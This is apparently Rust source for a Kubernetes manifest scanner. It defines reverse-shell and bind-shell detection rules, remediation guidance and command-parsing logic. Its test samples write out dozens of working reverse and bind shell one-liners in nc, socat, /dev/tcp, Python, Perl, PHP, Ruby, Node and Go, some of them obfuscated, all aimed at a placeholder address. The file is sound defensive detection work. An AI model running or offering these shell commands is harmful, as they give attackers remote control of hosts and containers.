//! Shells that are connected to the network.

use super::words::{cluster, has, operands, words};
use super::{COMMAND, Facts, Rule, Sample, Severity};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::code;
use crate::detect::findings::Collector;
use crate::detect::runs::Run;
use crate::normalize::exec::is_shell;
use crate::normalize::{Invocation, Redirect, RedirectOp, argv};

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-reverse-shell",
        title: "Reverse shell",
        message: "opens a shell to a remote host",
        meaning: "A shell is connected to the network: whoever listens at the other end controls the pod.",
        false_positives: "Waiting for a port with nc -z or an echo into /dev/tcp is not one, and is not reported.",
        confirm: &[
            Step::Object(
                "The address and port that the shell is connected to (nc, /dev/tcp, socat, a socket in \
                 inline code). An address that is not yours is the attacker's: write it down for the \
                 firewall.",
            ),
            Step::Logs(
                "Output of commands that nobody in your team ran (id, whoami, uname, ls of secrets). A \
                 shell that is open at this moment shows nothing, so an empty log clears nobody.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Somebody had, or has, an interactive shell in the pod. Block the address at the \
                     egress firewall before you end the pod, and search flow logs for other pods that spoke \
                     to it.",
            benign: "There is no benign form of a shell on an outgoing connection. Use kubectl exec or \
                     kubectl debug, which are authorised and audited; to wait for a port, nc -z is enough.",
        },
        severity: Severity::High,
        points: 50,
        techniques: &["T1059.004", "T1095"],
        references: &[links::NETWORK_POLICY, links::DEBUG],
        check: |facts, found| networked_shells(facts, found, false),
        samples: &[
            Sample::Hit(
                50,
                "containers: [{name: a, command: [/bin/sh, -c], args: ['nc 192.0.2.10 4444 -e /bin/sh']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, image: ncat, args: ['192.0.2.10', '4444', --exec, /bin/bash]}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [ncat, '192.0.2.10', '1', --sh-exec, 'bash -i']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [bash, -c, \"bash\\t-i >&\\t/dev/tcp/192.0.2.10/443 0>&1\"]}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [bash, -c, '0<&196;exec 196<>/dev/tcp/192.0.2.10/443; sh <&196 >&196 2>&196']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [bash, -c, 'exec 5<>/dev/tcp/192.0.2.10/443; cat <&5 | while read l; do $l 2>&5 >&5; done']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 443 > /tmp/f']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, 'mknod /tmp/f p; sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/f']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, 'telnet 192.0.2.10 1 | sh | telnet 192.0.2.10 2']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [socat, 'TCP:192.0.2.10:443', 'EXEC:/bin/bash,pty']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [gawk, 'BEGIN{s=\"/inet/tcp/0/192.0.2.10/1\";while(1){s|&getline c;system(c)}}']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.10\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [perl, -e, 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [php, -r, '$s=fsockopen(\"192.0.2.10\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, \"python3 - <<E\\nimport socket,pty,os\\ns=socket.socket();s.connect(('192.0.2.10',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\\nE\"]}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, env: [{name: A, value: 'nc 192.0.2.10 1 -e sh'}], command: [sh, -c, '$(A)']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [ruby, -rsocket, -e, 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"192.0.2.10\",4444))']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, \"cat > /tmp/t.go <<'E'\\npackage main\\nfunc main(){c,_:=net.Dial(\\\"tcp\\\",\\\"192.0.2.10:1\\\");k:=exec.Command(\\\"/bin/sh\\\");k.Stdin=c;k.Run()}\\nE\\ngo run /tmp/t.go\"]}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [rcat, connect, -s, bash, '192.0.2.10', '55600']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [python3, -c, 'import socket as k,subprocess as q;x=k.socket();x.connect((\"192.0.2.10\",443));q.call([\"sh\",\"-i\"],stdin=x,stdout=x)']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [node, -e, 'const n=require(\"net\"),c=require(\"child_process\");const s=n.connect(4444,\"192.0.2.10\",()=>{const p=c.spawn(\"sh\",[]);s.pipe(p.stdin);p.stdout.pipe(s)})']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.gethostname();subprocess.run([\"sh\",\"x.sh\"],stdin=subprocess.DEVNULL)']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, \"cat > /tmp/t.go <<'E'\\npackage main\\nfunc main(){exec.Command(\\\"make\\\").Run()}\\nE\\ngo run /tmp/t.go\"]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [ruby, -rjson, -e, 'puts JSON.parse(STDIN.read)']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -zvw3 db 5432 && sh migrate.sh']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'until (echo > /dev/tcp/db/5432); do sleep 1; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'timeout 1 bash -c \"</dev/tcp/db/5432\" && echo up']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'exec 3<>/dev/tcp/db/5432 && echo up']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [echo, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import socket; socket.create_connection((\"db\", 5432))']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.create_connection((\"db\",1));subprocess.run([\"bash\",\"migrate.sh\"])']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'echo ruok | nc zookeeper 2181']}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-bind-shell",
        title: "Bind shell",
        message: "offers a shell to whoever connects",
        meaning: "A shell waits on a port of the pod. Everyone who reaches the pod controls it.",
        false_positives: "None known.",
        confirm: &[
            Step::Object(
                "The port that the shell listens on, and whether hostNetwork or hostPort puts it on the \
                 node's address.",
            ),
            Step::Run(
                "kubectl -n NAMESPACE get services,networkpolicies",
                "Services that lead to this port, and whether a policy limits who can connect. Without a \
                 policy every pod of the cluster can.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Whoever reached the port had the pod. Find the connections in flow logs by that port: \
                     their sources are the next pods or hosts to look at.",
            benign: "Use kubectl exec or kubectl debug instead of a listening shell, and a NetworkPolicy \
                     that denies ingress to Jobs, which have no reason to be called.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1059.004", "T1571"],
        references: &[links::NETWORK_POLICY, links::DEBUG],
        check: |facts, found| networked_shells(facts, found, true),
        samples: &[
            Sample::Hit(45, "containers: [{name: a, command: [nc, -lvp, '4444', -e, /bin/sh]}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [socat, 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc -l -p 4444 > f']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [busybox, telnetd, -p, '23', -l, /bin/sh]}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [websocat, -E, 'ws-l:0.0.0.0:8080', 'cmd:sh -i']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess\\ns=socket.socket();s.bind((\"\",4444));s.listen(1)\\nc,a=s.accept()\\nwhile 1: c.send(subprocess.getoutput(c.recv(1024).decode()).encode())']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [websocat, 'ws-l:0.0.0.0:8080', 'tcp:db:5432']}]"),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -l -p 8080 > /data/upload']}]"),
            Sample::Miss("containers: [{name: a, command: [socat, 'TCP-LISTEN:80,fork', 'TCP:db:5432']}]"),
        ],
        ..COMMAND
    },
];

/// Hits shells on the network: those that listen, or those that connect.
fn networked_shells(facts: &Facts<'_>, found: &mut Collector<'_>, listening: bool) {
    for run in &facts.runs {
        let net = Net::of(run);
        let hit = run.invocations().find(|(at, invocation)| net.kind(*at, invocation) == Some(listening));
        if let Some((at, _)) = hit {
            found.hit(Some(&run.container.name), run.path(), &run.show(at));
        }
    }
}

/// What has to be known of the whole run, gathered once.
struct Net {
    /// A named pipe or a coprocess closes the circle of a shell and a network tool.
    fifo: bool,
    /// Descriptors that were opened on a socket.
    descriptors: Vec<u32>,
    /// Some network tool listens.
    listens: bool,
    after_tool: Vec<bool>,
    after_shell: Vec<bool>,
    after_descriptor: Vec<bool>,
}

impl Net {
    fn of(run: &Run<'_>) -> Self {
        let commands = &run.execution.commands;
        let fifo = commands.iter().any(|invocation| {
            invocation.program == "mkfifo"
                || invocation.program == "coproc"
                || invocation.program == "mknod" && has(invocation, &["p"])
        });
        let opened = commands
            .iter()
            .filter(|invocation| invocation.program == "exec" || invocation.program.is_empty());
        let mut descriptors: Vec<u32> = opened
            .flat_map(|invocation| &invocation.redirects)
            .filter(|redirect| is_socket(&redirect.target.text))
            .map(|redirect| redirect.fd.unwrap_or(0))
            .collect();
        descriptors.sort_unstable();
        descriptors.dedup();
        let after_descriptor = run.fed(|invocation| duplicates(&invocation.redirects, &descriptors));
        Self {
            fifo,
            listens: commands.iter().any(listens),
            after_tool: run.fed(is_net_pipe),
            // Only the circle asks for it, and nearly every run has a shell.
            after_shell: if fifo { run.fed(|invocation| is_shell(&invocation.program)) } else { Vec::new() },
            after_descriptor,
            descriptors,
        }
    }

    /// Whether an invocation connects a shell to the network, and if so whether it listens for that.
    fn kind(&self, at: usize, invocation: &Invocation) -> Option<bool> {
        if netcat_exec(invocation) {
            return Some(listens(invocation));
        }
        if let Some(listening) = socat_exec(invocation) {
            return Some(listening);
        }
        if let Some(listening) = relay_exec(invocation) {
            return Some(listening);
        }
        if invocation.program == "telnetd" && has(invocation, &["-l"]) {
            return Some(true);
        }
        if let Some(code) = code::text(invocation) {
            if code::is_bind_shell(code) {
                return Some(true);
            }
            if code::is_reverse_shell(code)
                || code.contains("/inet/tcp/") && (code.contains("getline") || code.contains("system("))
            {
                return Some(false);
            }
        }
        if self.shell_on_socket(at, invocation) || invocation.program == "ztcp" {
            return Some(false);
        }
        let set = |list: &[bool]| list.get(at) == Some(&true);
        let reads_script = is_shell(&invocation.program) && operands(invocation).next().is_none();
        let fed = reads_script && set(&self.after_tool);
        let circle = self.fifo && is_net_pipe(invocation) && set(&self.after_shell);
        (fed || circle).then_some(self.listens)
    }

    /// `bash -i >& /dev/tcp/HOST/PORT`, and the two-step form over a descriptor that `exec` opened.
    ///
    /// Waiting for a port, `(echo > /dev/tcp/db/5432)`, has no shell on the socket; `exec 3<>/dev/tcp/db/5432`
    /// alone has none either.
    fn shell_on_socket(&self, at: usize, invocation: &Invocation) -> bool {
        let runs_text =
            is_shell(&invocation.program) || matches!(invocation.program.as_str(), "eval" | "source");
        if !runs_text && !invocation.program.starts_with('$') {
            return false;
        }
        // `bash -c 'exec 3<>/dev/tcp/…'` has its redirection inside the script; one on the shell is another matter.
        invocation.redirects.iter().any(|redirect| is_socket(&redirect.target.text))
            || duplicates(&invocation.redirects, &self.descriptors)
            || self.after_descriptor.get(at) == Some(&true)
    }
}

fn is_socket(target: &str) -> bool {
    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
}

/// Whether a redirection duplicates one of the descriptors.
fn duplicates(redirects: &[Redirect], descriptors: &[u32]) -> bool {
    redirects.iter().any(|redirect| {
        matches!(redirect.op, RedirectOp::DupIn | RedirectOp::DupOut)
            && redirect
                .target
                .text
                .trim_end_matches('-')
                .parse::<u32>()
                .is_ok_and(|descriptor| descriptors.binary_search(&descriptor).is_ok())
    })
}

/// `nc -e PROGRAM`, `ncat --sh-exec COMMAND`.
fn netcat_exec(invocation: &Invocation) -> bool {
    if !is_netcat(&invocation.program) {
        return false;
    }
    let mut all = words(invocation).peekable();
    while let Some(word) = all.next() {
        let long = ["--exec", "--sh-exec", "--lua-exec"].iter().any(|flag| word.starts_with(flag));
        let flags = cluster(word).unwrap_or_default();
        // -c is --sh-exec of ncat and of the traditional nc, and "close" elsewhere: then no shell follows.
        let runs = all.peek().is_some_and(|next| {
            let name = argv::program(next.split(' ').next().unwrap_or(next));
            is_shell(name) || next.contains("/bin/") || next.starts_with('$')
        });
        if long || flags.contains('e') || flags.ends_with('c') && runs {
            return true;
        }
    }
    false
}

pub(super) fn is_netcat(program: &str) -> bool {
    matches!(program, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd")
}

/// Whether a netcat waits for connections.
fn listens(invocation: &Invocation) -> bool {
    is_netcat(&invocation.program)
        && words(invocation)
            .any(|word| word == "--listen" || cluster(word).is_some_and(|flags| flags.contains('l')))
}

/// Whether a netcat only looks whether a port is open.
pub(super) fn only_probes(invocation: &Invocation) -> bool {
    words(invocation).any(|word| {
        cluster(word).is_some_and(|flags| flags.contains('z'))
            || word.starts_with("-zv")
            || word.starts_with("-vz")
    })
}

/// Tools that connect their standard streams to a remote host.
fn is_net_pipe(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "telnet" | "socat" => true,
        "openssl" => has(invocation, &["s_client"]),
        program => is_netcat(program) && !only_probes(invocation),
    }
}

/// `websocat URL cmd:sh`, `rcat connect -s sh HOST PORT`, and whether it listens.
fn relay_exec(invocation: &Invocation) -> Option<bool> {
    let any =
        |wanted: &[&str]| words(invocation).any(|word| wanted.iter().any(|start| word.starts_with(start)));
    match invocation.program.as_str() {
        "websocat" => {
            any(&["cmd:", "sh-c:", "exec:"]).then(|| any(&["ws-l:", "tcp-l:", "-s", "--server-mode"]))
        }
        "rcat" | "rustcat" => {
            any(&["-s", "--shell", "-e", "--exec"]).then(|| has(invocation, &["listen", "l", "lp"]))
        }
        _ => None,
    }
}

/// `socat TCP:HOST:PORT EXEC:/bin/sh`, and whether it listens.
fn socat_exec(invocation: &Invocation) -> Option<bool> {
    let kinds = || {
        words(invocation).filter_map(|word| word.split_once(':')).map(|(kind, _)| kind.to_ascii_uppercase())
    };
    let runs = invocation.program == "socat"
        && kinds().any(|kind| matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL"));
    let net = |kind: &String| {
        ["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP", "VSOCK"]
            .iter()
            .any(|net| kind.starts_with(net))
    };
    let listening = kinds().any(|kind| kind.contains("LISTEN") || kind == "TCP-L" || kind == "UDP-L");
    (runs && kinds().any(|kind| net(&kind))).then_some(listening)
}
